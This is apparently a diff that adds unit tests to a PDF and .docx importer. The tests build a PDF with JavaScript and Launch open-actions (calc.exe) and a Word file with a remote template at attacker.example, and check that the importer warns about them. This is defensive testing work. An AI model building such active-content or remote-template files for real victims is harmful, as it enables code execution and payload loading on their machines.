@@ -79,6 +79,25 @@ describe('decodePdf', () => {
     expect(doc.notes.map((n) => n.message)).toContainEqual(expect.stringMatching(/^3 character\(s\) .* CJK radicals/u));
   });
 
+  it('says when a PDF carries active content (JavaScript, a launch action), and not when it does not', async () => {
+    const pdf = (catalogExtra: string): Buffer => {
+      const content = 'BT /F1 12 Tf 72 700 Td (Itaku no kenmei) Tj ET';
+      return writePdf([
+        `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`,
+        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
+        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+        `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
+      ]);
+    };
+    const active = /active content \(JavaScript, a launch or a form-submit action\)/u;
+    for (const extra of ['/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ', '/OpenAction << /S /Launch /F (calc.exe) >> ']) {
+      const doc = await decodePdf(pdf(extra));
+      expect(doc.notes.map((n) => n.message)).toContainEqual(expect.stringMatching(active));
+    }
+    expect((await decodePdf(pdf(''))).notes.map((n) => n.message)).not.toContainEqual(expect.stringMatching(active));
+  });
+
   it('refuses a damaged, an image-only and a foreign file with what to do', async () => {
     const pdf = readFileSync(path.resolve('tests/fixtures/import/seed-000-pdf/input.pdf'));
     await expect(decodePdf(pdf.subarray(0, 200))).rejects.toThrow(SourceError);
@@ -118,6 +137,20 @@ describe('decodeDocx', () => {
     expect(text).toContain('1 受託者は、業務上知り得た個人情報を他に漏らしてはならない。');
     expect(text).toContain('2 受託者は、個人情報を目的以外に利用してはならない。');
     expect(decoded.notes.map((n) => n.message).join('\n')).toMatch(/automatic numbering: their numbers were restored by position/u);
+  });
+
+  it('says when a .docx reaches outside itself (a remote template), and not for a plain one or a hyperlink', async () => {
+    const JSZip = (await import('jszip')).default;
+    const plain = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('委託の件名')] }] }));
+    const external = /reaches outside itself when Word opens it \(https:\/\/attacker\.example\/t\.dotm/u;
+    expect((await decodeDocx(plain)).notes.map((n) => n.message)).not.toContainEqual(expect.stringMatching(/reaches outside itself/u));
+    const zip = await JSZip.loadAsync(plain);
+    zip.file(
+      'word/_rels/settings.xml.rels',
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
+    );
+    const remote = await zip.generateAsync({ type: 'nodebuffer' });
+    expect((await decodeDocx(remote)).notes.map((n) => n.message)).toContainEqual(expect.stringMatching(external));
   });
 
   it('refuses a zip bomb before unpacking it, and a zip that is not a Word document', async () => {
